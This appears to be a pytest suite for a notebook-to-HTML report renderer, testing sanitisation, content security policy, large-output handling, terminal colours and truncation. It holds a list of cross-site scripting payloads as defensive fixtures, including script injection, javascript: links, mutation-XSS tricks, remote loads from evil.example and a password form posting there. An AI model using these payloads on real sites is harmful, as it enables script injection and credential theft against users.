from __future__ import annotations

import base64
from collections.abc import Callable
from html.parser import HTMLParser
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dataops_lab.notebooks import LocalNotebooks
from dataops_lab.notebooks.report import report
from dataops_lab.notebooks.report.render import LONGEST_HTML, LONGEST_MARKDOWN, LONGEST_TEXT

from ..conftest import as_bytes, notebook
from ..conftest import code as code_cell

Cells = Callable[..., Any]
PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNgYGBgAAAABQABh6FO1AAAAABJRU5ErkJggg=="


def shown(**data: Any) -> dict[str, Any]:
    mimes = {name.replace("__", "+").replace("_", "/", 1): value for name, value in data.items()}
    return {"output_type": "display_data", "data": mimes, "metadata": {}}


def stream(text: Any, name: str = "stdout") -> dict[str, Any]:
    return {"output_type": "stream", "name": name, "text": text}


class Page(HTMLParser):
    """The page as a browser reads it, as far as these tests need it."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.html = html
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.text = ""
        self._in_style = False
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))
        self._in_style = tag == "style"

    def handle_endtag(self, tag: str) -> None:
        self._in_style = False

    def handle_data(self, data: str) -> None:
        self.text += "" if self._in_style else data

    def loads(self) -> list[str]:
        """Return all addresses that a browser fetches when it opens the page."""
        addresses = [
            attrs[name]
            for tag, attrs in self.tags
            for name in ("src", "srcset", "data", "poster", "background")
            if name in attrs
        ]
        addresses += [attrs.get("href", "") for tag, attrs in self.tags if tag in ("link", "image", "use", "base")]
        return [address for address in addresses if not address.startswith("data:image/")]

    def runs(self) -> list[str]:
        tags = [
            tag
            for tag, _ in self.tags
            if tag in ("script", "iframe", "object", "embed", "form", "svg", "math", "link", "base")
        ]
        handlers = [name for _, attrs in self.tags for name in attrs if name.startswith("on")]
        tags += ["meta refresh" for _, attrs in self.tags if attrs.get("http-equiv", "").lower() == "refresh"]
        links = [attrs["href"] for _, attrs in self.tags if "href" in attrs]
        return tags + handlers + [link for link in links if not link.startswith(("https://", "mailto:", "#"))]


@pytest.fixture
def page(notebooks: LocalNotebooks, make: Cells) -> Callable[..., Page]:
    def rendered(*cells: Any, code: bool = True, title: str = "Report", **more: Any) -> Page:
        return Page(notebooks.render_report(make(*cells, **more), title=title, code=code).decode())

    return rendered


HOSTILE_HTML = [
    "<script>alert(1)</script>",
    "<script src='https://evil.example/x.js'></script>",
    "<SCRIPT\n>alert(1)//",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.png'>",
    "<img srcset='https://evil.example/pixel.png 2x'>",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' \tjava\nscript:alert(1)'>x</a>",
    "<a href='data:text/html,x'>x</a>",
    "<iframe src='https://evil.example'></iframe>",
    "<object data='https://evil.example'></object>",
    "<embed src='https://evil.example'>",
    "<link rel='stylesheet' href='https://evil.example/x.css'>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv='refresh' content='0; url=https://evil.example'>",
    "<style>@import 'https://evil.example/x.css'; body { display: none }</style>",
    "<p style=\"background: url('https://evil.example/x.png')\">x</p>",
    "<div style='position: fixed; inset: 0'>x</div>",
    "<form action='https://evil.example'><input name=password></form>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><use href='https://evil.example/x.svg#a'/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<details open ontoggle=alert(1)>x</details>",
    "<video src='https://evil.example/x.mp4' autoplay poster='https://evil.example/p.png'>",
    "<table background='https://evil.example/x.png'><tr><td>x</table>",
    "</main></body><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<scr<script>x</script>ipt>alert(1)</script>",
]


@pytest.mark.parametrize("html", HOSTILE_HTML)
@pytest.mark.parametrize("kind", ["html", "markdown output", "markdown cell"])
def test_nothing_in_the_page_runs_or_loads(kind: str, html: str, page: Callable[..., Page], code: Cells) -> None:
    if kind == "markdown cell":
        document = page({"cell_type": "markdown", "metadata": {}, "source": f"Text\n\n{html}\n"})
    else:
        document = page(code("1", outputs=[shown(**{"text_html" if kind == "html" else "text_markdown": html})]))
    assert document.runs() == []
    assert document.loads() == []
    assert "evil.example" not in "".join(str(attrs) for _, attrs in document.tags)
    assert not any(
        "url(" in attrs.get("style", "") or "position" in attrs.get("style", "") for _, attrs in document.tags
    )


@pytest.mark.parametrize(
    "source",
    [
        "![x](https://evil.example/x.png)",
        "[x](javascript:alert(1))",
        "<https://evil.example>\n\n![a][b]\n\n[b]: https://evil.example/x.png",
    ],
)
def test_markdown_itself_loads_nothing(source: str, page: Callable[..., Page]) -> None:
    document = page({"cell_type": "markdown", "metadata": {}, "source": source})
    assert (document.runs(), document.loads()) == ([], [])


def test_scripts_outputs_and_drawings_do_not_run(page: Callable[..., Page], code: Cells) -> None:
    outputs = [
        {"output_type": "display_data", "data": {"application/javascript": "alert('ran')"}, "metadata": {}},
        shown(image_svg__xml="<svg onload='alert(1)'><script>alert('ran')</script></svg>"),
        shown(image_png="x\" onerror=\"alert('ran')"),
        shown(text_latex="<script>alert('ran')</script>"),
        stream("<script>alert('ran')</script>\x1b]8;;https://evil.example\x07link\x1b]8;;\x07"),
        {
            "output_type": "error",
            "ename": "<script>",
            "evalue": "<img src=x>",
            "traceback": ["<script>alert('ran')</script>"],
        },
    ]
    document = page(code("<script>alert('ran')</script>", outputs=outputs), title="<script>alert('ran')</script>")
    assert (document.runs(), document.loads()) == ([], [])
    assert "<script>alert('ran')</script>" in document.text  # shown as text


def test_the_policy_forbids_what_the_cleaning_would_have_missed(page: Callable[..., Page]) -> None:
    policy = next(
        attrs["content"] for tag, attrs in page().tags if attrs.get("http-equiv") == "Content-Security-Policy"
    )
    assert policy.startswith("default-src 'none'; img-src data:; style-src 'unsafe-inline'; font-src data:")


@pytest.mark.parametrize("mime", ["image_png", "image_jpeg", "image_gif"])
def test_figures_are_inside_the_page(mime: str, page: Callable[..., Page], code: Cells) -> None:
    document = page(code("1", outputs=[shown(**{mime: PIXEL + "\n"})]))
    assert [a["src"] for tag, a in document.tags if tag == "img"] == [f"data:{mime.replace('_', '/')};base64,{PIXEL}"]


def test_a_figure_that_is_none_falls_back_to_its_text(page: Callable[..., Page], code: Cells) -> None:
    document = page(code("1", outputs=[shown(image_png="<not base64>", text_plain="Figure of size 640x480")]))
    assert "Figure of size 640x480" in document.text


def test_the_title_is_a_heading_where_the_notebook_has_none_of_its_own(page: Callable[..., Page]) -> None:
    heading = {"cell_type": "markdown", "metadata": {}, "source": "Text\n\n# Sales"}
    for cells in ((), (heading,)):
        assert [tag for tag, _ in page(*cells, title="October").tags].count("h1") == 1
        assert "October" in page(*cells, title="October").text


def test_tables_keep_their_shape_and_colours(page: Callable[..., Page], code: Cells) -> None:
    cell = "<td style='color: red; text-align: right' colspan=2>5</td>"
    html = f"<style>td {{ color: red }}</style><table border=1 class='dataframe'><tr>{cell}</tr></table>"
    document = page(code("df", outputs=[shown(text_html=html, text_plain="5")]))
    assert ("td", {"style": "color: red; text-align: right;", "colspan": "2"}) in document.tags
    assert "td {" not in document.text


def test_an_interactive_plot_falls_back_to_its_picture(page: Callable[..., Page], code: Cells) -> None:
    plot = shown(text_html="<div id='plot'></div><script>draw()</script>", image_png=PIXEL, text_plain="Figure")
    document = page(code("fig", outputs=[plot]))
    assert "img" in [tag for tag, _ in document.tags]
    assert "draw()" not in document.text


def test_recorded_values_show_their_text(page: Callable[..., Page], code: Cells) -> None:
    value = {"application/vnd.dataops.value+json": {"name": "auc", "value": 0.91}, "text/plain": "auc = 0.91"}
    document = page(
        code("record('auc', auc)", outputs=[{"output_type": "display_data", "data": value, "metadata": {}}]), code=False
    )
    assert "auc = 0.91" in document.text


class TestWithoutCode:
    def test_sources_prompts_and_the_injected_cell_are_left_out(self, page: Callable[..., Page], code: Cells) -> None:
        cells = [
            {"cell_type": "markdown", "metadata": {}, "source": "# Sales"},
            code("month = 'secret_source'", "injected-parameters"),
            code("print('secret_source')", execution_count=41, outputs=[stream("Total: 5")]),
            {"cell_type": "raw", "metadata": {}, "source": "secret_source"},
        ]
        with_code, without = page(*cells), page(*cells, code=False)
        assert "secret_source" in with_code.text and "[41]" in with_code.text
        assert "secret_source" not in without.html and "[41]" not in without.text
        assert "Sales" in without.text and "Total: 5" in without.text

    def test_errors_and_warnings_do_not_quote_it(self, page: Callable[..., Page], code: Cells) -> None:
        error = {
            "output_type": "error",
            "ename": "ValueError",
            "evalue": "no rows",
            "traceback": ["----> 1 secret_source()"],
        }
        cell = code("x", outputs=[stream("  secret_source()\nUserWarning", "stderr"), error])
        assert "secret_source" in page(cell).text
        assert "secret_source" not in page(cell, code=False).html
        assert "ValueError: no rows" in page(cell, code=False).text

    @pytest.mark.parametrize(
        ("text", "said"),
        [
            ("a\nb\n", "2 lines of warnings are"),
            ("a", "1 line of warnings is"),
            ("10%\r20%\r", "1 line of warnings is"),
            ("\n", "1 line of warnings is"),
        ],
    )
    def test_a_line_says_how_many_lines_of_warnings_are_missing(
        self, text: str, said: str, page: Callable[..., Page], code: Cells
    ) -> None:
        cell = code("x", outputs=[stream(text, "stderr")])
        assert f"{said} not shown here." in page(cell, code=False).text
        assert "not shown" not in page(cell).text


def test_terminal_colours_are_kept_as_styles(page: Callable[..., Page], code: Cells) -> None:
    document = page(code("1", outputs=[stream("\x1b[31mred\x1b[0m")]))
    assert ("span", {"class": "ansi-red-fg"}) in document.tags


def test_attached_pictures_of_markdown_are_shown(page: Callable[..., Page]) -> None:
    cell = {
        "cell_type": "markdown",
        "metadata": {},
        "source": "![a](attachment:a.png)",
        "attachments": {"a.png": {"image/png": PIXEL}},
    }
    assert [a["src"] for tag, a in page(cell).tags if tag == "img"] == [f"data:image/png;base64,{PIXEL}"]


@pytest.mark.parametrize(
    "outputs",
    [
        None,
        "x",
        [None],
        [{}],
        [{"output_type": "display_data"}],
        [{"output_type": "error", "traceback": "x"}],
        [shown(text_html=5)],
        [shown(text_html=["<b>a", "</b>"])],
        [shown(image_png={})],
        [stream(None)],
        [stream([1, "a"])],
    ],
)
def test_outputs_of_any_shape_do_not_break_the_page(outputs: Any, page: Callable[..., Page], code: Cells) -> None:
    assert (
        "Report"
        in page(
            code("1", outputs=outputs), {"cell_type": "markdown", "metadata": {}, "source": "x", "attachments": 5}
        ).text
    )


def test_an_empty_notebook_has_a_page_that_says_so(page: Callable[..., Page]) -> None:
    assert "nothing to show" in page().text


def test_half_characters_are_replaced(page: Callable[..., Page], code: Cells) -> None:
    assert "a?" in page(code("1", outputs=[stream("a\ud800")])).text


def test_many_open_tags_end_in_time(page: Callable[..., Page], code: Cells) -> None:
    assert page(code("1", outputs=[shown(text_html="<script" * 50_000 + "<div>" * 200)])).runs() == []


def of_kind(**data: Any) -> dict[str, Any]:
    return {"output_type": "display_data", "data": data, "metadata": {}}


def as_markdown(source: str, **more: Any) -> dict[str, Any]:
    return {"cell_type": "markdown", "metadata": {}, "source": source, **more}


def pictures(document: Page) -> list[str]:
    return [attrs["src"] for tag, attrs in document.tags if tag == "img" and "src" in attrs]


@pytest.mark.timeout(120)
class TestLargeOutputs:
    """The time grows in proportion to the size; these outputs once took minutes, or never ended."""

    @pytest.mark.parametrize(
        "html",
        [
            "<table>" + "<tr><td style='color: red'>1</td></tr>" * 100_000 + "</table>",
            "<div>" * 20_000,
            "<a " + " ".join(f"x{i}=1" for i in range(50_000)) + ">x</a>",
            "<svg" * 100_000,
            "<style>" + "a{color:red}" * 10_000,
        ],
        ids=["table", "nested", "attributes", "drawings", "styles"],
    )
    def test_html(self, html: str, page: Callable[..., Page], code: Cells) -> None:
        assert page(code("1", outputs=[shown(text_html=html, text_plain="x")])).runs() == []

    @pytest.mark.parametrize(
        "html",
        [
            "<div>" * 60_000 + "deep",
            "<DIV\nclass=a>" * 60_000 + "deep",
            "<b><p>" * 60_000 + "deep",
            "<div></x>" * 60_000 + "deep",
            "<div><table><td></div></table>" * 20_000 + "deep",
            "<math>" + "<td>" * 60_000 + "deep",
        ],
        ids=["boxes", "spelled", "looks", "strays", "crossed", "formulas"],
    )
    def test_html_that_is_too_deep_is_shown_as_text(self, html: str, page: Callable[..., Page], code: Cells) -> None:
        for document in (
            page(code("1", outputs=[shown(text_html=html)])),
            page(as_markdown(f"a\n\n{html[:89_000]}\n\ndeep")),
        ):
            assert "deep" in document.text and "nested too deeply" in document.text
            assert len(document.tags) < 100

    @pytest.mark.parametrize(
        "html",
        [
            "<p>one<br>" * 20_000,
            "<ul>" + "<li>one" * 20_000 + "</ul>",
            "<table>" + "<tr><td>1<td>2" * 20_000 + "</table>",
            "<div><span>1</span></div>" * 20_000,
            "<div>" * 500 + "x" + "</div>" * 500,
            "<p>one</p>" * 1000 + "<svg>" + "<path d=''/>" * 20_000 + "</svg>",
        ],
        ids=["paragraphs", "list", "table", "boxes", "inside", "drawing"],
    )
    def test_html_that_is_long_and_flat_is_drawn(self, html: str, page: Callable[..., Page], code: Cells) -> None:
        document = page(code("1", outputs=[shown(text_html=html)]))
        assert "nested too deeply" not in document.text
        assert len(document.tags) > 500

    def test_comparisons_in_a_script_are_no_elements(self, page: Callable[..., Page], code: Cells) -> None:
        html = "<div id=plot></div><script>" + "for(i=0;i<n;i++)s+='<svg>';" * 10_000 + "</script>"
        document = page(code("fig", outputs=[shown(text_html=html, image_png=PIXEL)]))
        assert len(pictures(document)) == 1
        assert "nested too deeply" not in document.text

    @pytest.mark.parametrize("opened", ["[", "![", "[a]("])
    def test_brackets_in_markdown(self, opened: str, page: Callable[..., Page]) -> None:
        document = page(as_markdown(opened * (LONGEST_MARKDOWN // len(opened))))
        assert opened * 1000 in document.text and "shown as text" in document.text

    def test_a_coloured_log(self, page: Callable[..., Page], code: Cells) -> None:
        log = "".join(f"\x1b[3{i % 8}mline {i}\x1b[0m text\n" for i in range(60_000))
        assert "line 59999 text" in page(code("1", outputs=[stream(log)])).text

    def test_a_bar_that_moved_often(self, page: Callable[..., Page], code: Cells) -> None:
        bar = "".join(f"\rstep {i} \x1b[31m####" for i in range(20_000))
        assert page(code("1", outputs=[stream(bar)])).text.count("step") == 1

    def test_spaces_in_markdown(self, page: Callable[..., Page]) -> None:
        assert "a" in page(as_markdown("a" + " " * 50_000 + "b")).text


class TestWhatIsCut:
    def test_text_keeps_head_and_tail(self, page: Callable[..., Page], code: Cells) -> None:
        document = page(code("1", outputs=[stream("first\n" + "x" * LONGEST_TEXT + "\nlast")]))
        assert "first" in document.text and "last" in document.text
        assert "11 characters are left out here. The executed notebook has everything." in document.text

    def test_html_keeps_its_beginning(self, page: Callable[..., Page], code: Cells) -> None:
        document = page(code("1", outputs=[shown(text_html="<b>first</b>" + "x" * LONGEST_HTML)]))
        assert "first" in document.text and f"Only the first {LONGEST_HTML:,}" in document.text

    def test_long_markdown_is_shown_as_text(self, page: Callable[..., Page]) -> None:
        assert "**a**" in page(as_markdown("**a**" + "x" * LONGEST_MARKDOWN)).text


@pytest.mark.parametrize("code_too", [True, False])
@pytest.mark.parametrize(
    ("data", "said"),
    [
        ({"application/vnd.plotly.v1+json": {"data": []}}, "application/vnd.plotly.v1+json"),
        ({"application/json": {"a": 1}}, '{"a": 1}'),
        ({"text/csv": "a,b"}, "a,b"),
        ({"image/png": "<not base64>"}, "image/png"),
        ({"text/html": "<div></div><script>draw()</script>"}, "text/html"),
        ({"application/pdf": "JVBERi0="}, "application/pdf"),
    ],
)
def test_an_output_that_cannot_be_drawn_is_named_or_shown_as_text(
    data: dict[str, Any], said: str, code_too: bool, page: Callable[..., Page], code: Cells
) -> None:
    assert said in page(code("1", outputs=[of_kind(**data)]), code=code_too).text


@pytest.mark.parametrize(
    ("written", "seen"),
    [
        ("".join(f"\rstep {i}" for i in range(50)) + "\n", "step 49"),
        ("abc\b\b\bxyz", "xyz"),
        ("one\r\ntwo\r\n", "one\ntwo"),
        ("long line\rshort", "shortline"),
        ("a\b\b\bb", "b"),
        ("\x1b[31m10%\x1b[0m\r\x1b[32m20%\x1b[0m", "20%"),
        ("\x1b]0;title\x07text", "text"),
    ],
)
def test_what_was_written_over_is_gone(written: str, seen: str, page: Callable[..., Page], code: Cells) -> None:
    assert page(code("", outputs=[stream(written)])).text.replace("Report", "").strip() == seen


@pytest.mark.parametrize(
    ("written", "look"),
    [
        ("\x1b[1;31mx", {"class": "ansi-red-intense-fg ansi-bold"}),
        ("\x1b[48;5;196mx", {"style": "background-color: rgb(255, 0, 0)"}),
        ("\x1b[38;2;1;2;3mx", {"style": "color: rgb(1, 2, 3)"}),
        ("\x1b[7mx", {"class": "ansi-default-inverse-fg ansi-default-inverse-bg"}),
        ("\x1b[4;92mx", {"class": "ansi-green-intense-fg ansi-underline"}),
        ("\x1b[31mx\n\x1b[39m", {"class": "ansi-red-fg"}),
    ],
)
def test_looks_of_a_terminal(written: str, look: dict[str, str], page: Callable[..., Page], code: Cells) -> None:
    assert ("span", look) in page(code("1", outputs=[stream(written)])).tags


def test_colours_of_a_table_that_stand_in_a_style_sheet_are_kept(page: Callable[..., Page], code: Cells) -> None:
    html = """<style>#T_1 .neg, td + td { background-color: red; position: fixed; color: url(x) } body { color: red }
      @import "https://evil.example"; #T_1 td { background: linear-gradient(90deg, red 50%, transparent 50%) }</style>
      <table id="T_1"><tr><td class="neg">-2</td></tr></table>"""
    document = page(code("1", outputs=[shown(text_html=html)]))
    assert "#part-0-0 #T_1 .neg {background-color: red;}" in document.html
    assert "linear-gradient(90deg, red 50%, transparent 50%)" in document.html
    assert not any(word in document.html for word in ("fixed", "url(x)", "td + td", "evil.example"))
    assert ("table", {"id": "T_1"}) in document.tags


def test_an_escape_in_a_style_sheet_ends_no_element(page: Callable[..., Page], code: Cells) -> None:
    html = r"<style>a { font-family: '\3c/style><script>alert(1)</script>'; color: \3c/style\3e }</style>x"
    assert "alert" not in page(code("1", outputs=[shown(text_html=html)])).html


def test_tasks_that_are_done_look_so(page: Callable[..., Page]) -> None:
    document = page(as_markdown("- [ ] todo\n- [x] done"))
    assert "☐ todo" in document.text and "☑ done" in document.text


def test_a_link_finds_its_heading(page: Callable[..., Page]) -> None:
    document = page(as_markdown("[go](#Two-words) [on](#here)\n\n## Two words\n\n<a id='here'></a>"))
    assert {attrs["id"] for _, attrs in document.tags if "id" in attrs} >= {"Two-words", "here"}


def test_formulas_are_left_as_they_are_written(page: Callable[..., Page]) -> None:
    document = page(as_markdown("$a_1 * b_1 * c$ and $$x < y$$\n\n\\begin{align}\na_1 & b_1\n\\end{align}"))
    assert (
        "$a_1 * b_1 * c$" in document.text
        and "$$x < y$$" in document.text
        and "\\begin{align}\na_1 & b_1" in document.text
    )


def test_attached_pictures_are_shown_in_both_spellings(page: Callable[..., Page]) -> None:
    attached = {"a.png": {"image/png": PIXEL}}
    document = page(as_markdown('![a](attachment:a.png) <img src="attachment:a.png" width="40">', attachments=attached))
    assert pictures(document) == [f"data:image/png;base64,{PIXEL}"] * 2


def test_drawings_in_html_and_markdown_are_images(page: Callable[..., Page], code: Cells) -> None:
    drawn = '<svg viewBox="0 0 1 1" onload="x()"><rect width="1" height="1"/></svg>'
    document = page(as_markdown(drawn), code("1", outputs=[shown(text_html=f"<p>{drawn}</p>")]))
    assert len(pictures(document)) == 2
    assert b'xmlns="http://www.w3.org/2000/svg"' in base64.b64decode(pictures(document)[0].split(",")[1])


def test_pictures_beside_the_notebook_are_shown_and_missing_ones_named() -> None:
    cell = as_markdown('![p](pic%201.png) <img src="./sub/../pic 1.png"> ![q](gone.png) ![r](https://x.example/r.png)')
    html = report(
        as_bytes(notebook(cell)),
        title="Report",
        code=False,
        pictures={"pic 1.png": "digest", "other.txt": "digest"},
        read={"digest": base64.b64decode(PIXEL)}.__getitem__,
    )
    document = Page(html.decode())
    assert pictures(document) == [f"data:image/png;base64,{PIXEL}"] * 2
    assert "not shown: gone.png, https://x.example/r.png." in document.text


TEXT = st.text(st.characters(codec="utf-8"), min_size=1, max_size=30)
MIMES = st.sampled_from(
    ["text/html", "text/plain", "text/markdown", "text/csv", "image/png", "image/svg+xml", "application/json", "x/y"]
)
OUTPUTS = st.one_of(
    st.builds(stream, TEXT, st.sampled_from(["stdout", "stderr"])),
    st.builds(lambda text: {"output_type": "error", "ename": "E", "evalue": text, "traceback": []}, TEXT),
    st.builds(lambda data: of_kind(**data), st.dictionaries(MIMES, TEXT, min_size=1, max_size=3)),
)


@given(st.lists(OUTPUTS, max_size=5), st.booleans())
def test_each_output_leaves_something_to_read(outputs: list[dict[str, Any]], with_code: bool) -> None:
    document = Page(
        report(
            as_bytes(notebook(code_cell("", outputs=outputs))), title="Report", code=with_code, read={}.__getitem__
        ).decode()
    )
    assert sum(attrs.get("class") == "output" for _, attrs in document.tags) == len(outputs)
